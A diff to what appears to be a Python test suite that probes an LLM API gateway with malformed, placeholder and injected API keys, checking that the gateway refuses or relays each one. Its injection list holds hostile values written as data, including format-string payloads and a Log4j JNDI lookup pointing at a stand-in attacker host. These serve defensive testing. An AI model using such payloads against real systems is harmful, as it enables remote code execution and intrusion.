@@ -3,22 +3,8 @@
 from base64 import b64encode
 from itertools import product
 
-from attacks.attack import (
-    ACME_CHAT,
-    BEARER,
-    FROM_PAGE,
-    GEMINI,
-    MISTRAL_CHAT,
-    NOT_HTTP,
-    OPENAI_CHAT,
-    OWN,
-    Attack,
-    get,
-    on,
-    post,
-    refused,
-    relayed,
-)
+from attacks.attack import NOT_HTTP, Attack, each, get, on, post, refused, relayed
+from attacks.words import ACME_CHAT, BEARER, FROM_PAGE, GEMINI, LOCAL_CHAT, MISTRAL_CHAT, MODELS, OPENAI_CHAT, OWN
 from differences import PASSES_CONTROL_CHARACTERS, TAKES_LONG_HEADERS
 from providers import CHAT
 
@@ -68,7 +54,7 @@ NO_CARRIERS = {
 }
 
 # No key, in one way or another -> what is sent for one, where keys have no beginning of their own.
-MALFORMED = {
+NO_KEYS = {
     "7 characters": "sk-1234",
     "4,097 characters": "{mark}" + "x" * (4097 - 22),
     "12,000 characters": "{mark}" + "x" * (12_000 - 22),
@@ -92,20 +78,12 @@ MALFORMED = {
 }
 
 # Copied out of a manual, or left by a template that was not filled in.
-PLACEHOLDERS = [
-    "sk-...",
-    "YOUR_API_KEY",
-    "<your-api-key>",
-    "${OPENAI_API_KEY}",
-    "{{api_key}}",
-    "undefined",
-    "[object-Object]",
-    "process.env.KEY",
-]
+PLACEHOLDERS = """sk-... YOUR_API_KEY <your-api-key> ${OPENAI_API_KEY} {{api_key}} undefined [object-Object] process.env.KEY""".split()
 
 # A key is never part of a format, a statement, a template or a command. Where its form is not checked, it goes up as it is.
 INJECTIONS = {
     "a format of C": "%s%n%999999d",
+    "formats of C and Python": "%s%d{0}",
     "a format of Python": "{0.__class__.__init__.__globals__.x}",
     "an f-string": "{settings!r:>999999}",
     "a lookup of Log4j": "${jndi:ldap://evil.example/a}",
@@ -157,6 +135,8 @@ def as_bytes(text: str) -> str:
 # Keys of so many characters that no other test has: of letters that are in no random key, each of them once.
 SHORT = {length: product("ghijklmnopqrstuvwxyz", repeat=length) for length in (1, 2, 3, 7, 8)}
 
+MALFORMED = refused("key_malformed")
+
 ATTACKS = [
     Attack("no key", post(OPENAI_CHAT), refused("missing_key")),
     *(
@@ -168,30 +148,16 @@ ATTACKS = [
         for line, whose in NO_CARRIERS.items()
     ),
     Attack("for a carrier: the body", post(OPENAI_CHAT, body='{"api_key": "{mark}", "key": "{mark}"}'), refused("missing_key")),
-    *(
-        Attack(f"with {name}", post(MISTRAL_CHAT, as_bytes(f"X-API-Key: {key}")), refused("key_malformed"))
-        for name, key in MALFORMED.items()
+    *each(MALFORMED, {f"with {name}": post(MISTRAL_CHAT, as_bytes(f"X-API-Key: {key}")) for name, key in NO_KEYS.items()}),
+    *each(
+        on(PASSES_CONTROL_CHARACTERS, MALFORMED, NOT_HTTP),
+        {f"with {name}": post(MISTRAL_CHAT, f"X-API-Key: {{mark}}{character}x") for name, character in CONTROL_CHARACTERS.items()},
     ),
-    *(
-        Attack(
-            f"with {name}",
-            post(MISTRAL_CHAT, f"X-API-Key: {{mark}}{character}x"),
-            on(PASSES_CONTROL_CHARACTERS, refused("key_malformed"), NOT_HTTP),
-        )
-        for name, character in CONTROL_CHARACTERS.items()
-    ),
-    *(
-        Attack(f"with {name} at its end", post(OPENAI_CHAT, as_bytes(BEARER + space)), refused("key_malformed"))
-        for name, space in SPACES.items()
-    ),
-    Attack(
-        "of 100,000 characters",
-        post(MISTRAL_CHAT, "X-API-Key: {mark}" + "x" * 100_000),
-        on(TAKES_LONG_HEADERS, refused("key_malformed"), NOT_HTTP),
-    ),
-    Attack("of 8 characters", post(MISTRAL_CHAT, OWN), relayed(MISTRAL_CHAT), provider="mistral", key=lambda key: key[-8:]),
+    *each(MALFORMED, {f"with {name} at its end": post(OPENAI_CHAT, as_bytes(BEARER + space)) for name, space in SPACES.items()}),
+    *each(on(TAKES_LONG_HEADERS, MALFORMED, NOT_HTTP), {"of 100,000 characters": post(MISTRAL_CHAT, "X-API-Key: {mark}" + "x" * 100_000)}),
+    Attack("of 8 characters", post(MISTRAL_CHAT, OWN), relayed(MISTRAL_CHAT), key=lambda key: key[-8:]),
     Attack("of 4,096 characters", post(OPENAI_CHAT, OWN), relayed(OPENAI_CHAT), key=lambda key: key.ljust(4096, "x")),
-    *(Attack(f"a placeholder, {key}", post(OPENAI_CHAT, f"X-API-Key: {key}"), refused("key_malformed")) for key in PLACEHOLDERS),
+    *each(MALFORMED, {f"a placeholder, {key}": post(OPENAI_CHAT, f"X-API-Key: {key}") for key in PLACEHOLDERS}),
     *(
         Attack(
             f"that ends in {name}{where}",
@@ -218,7 +184,6 @@ ATTACKS = [
             f"of {provider} that begins with {begin}",
             post(CHAT[provider], BEARER),
             relayed(CHAT[provider]),
-            provider=provider,
             key=lambda key, begin=begin: f"{begin}{key[-26:]}",
         )
         for provider, beginnings in BEGINNINGS.items()
@@ -227,7 +192,7 @@ ATTACKS = [
     *(
         Attack(
             f"of {length} characters at a custom provider that says so",
-            post("/acme-local/v1/chat/completions", OWN),
+            post(LOCAL_CHAT, OWN),
             relayed(OPENAI_CHAT, authorization="Bearer {key}"),
             "custom",
             key=lambda _key, unused=unused: "".join(next(unused)),
@@ -238,26 +203,15 @@ ATTACKS = [
         "that is an access token with three dots, and no sealed key",
         post(GEMINI, OWN),
         relayed(GEMINI, authorization="Bearer {key}"),
-        provider="google",
         key=lambda key: f"ya29.c.{key}{'x' * 100}.",
     ),
     Attack(
         "of 6 characters that is a word of the query, at a custom provider that says so",
         get("/acme-local/v1/models?a={key}", OWN),
-        relayed("/openai/v1/models?a={key}", authorization="Bearer {key}"),
+        relayed(f"{MODELS}?a={{key}}", authorization="Bearer {key}"),
         "custom",
         key=lambda key: key[-6:],
     ),
-    Attack(
-        "of 7 characters at a custom provider that does not say so",
-        post(ACME_CHAT, "X-API-Key: sk-1234"),
-        refused("key_malformed"),
-        "custom",
-    ),
-    Attack(
-        "of 0 characters at a custom provider that says so",
-        post("/acme-local/v1/chat/completions", "X-API-Key:"),
-        refused("missing_key"),
-        "custom",
-    ),
+    Attack("of 7 characters at a custom provider that does not say so", post(ACME_CHAT, "X-API-Key: sk-1234"), MALFORMED, "custom"),
+    Attack("of 0 characters at a custom provider that says so", post(LOCAL_CHAT, "X-API-Key:"), refused("missing_key"), "custom"),
 ]
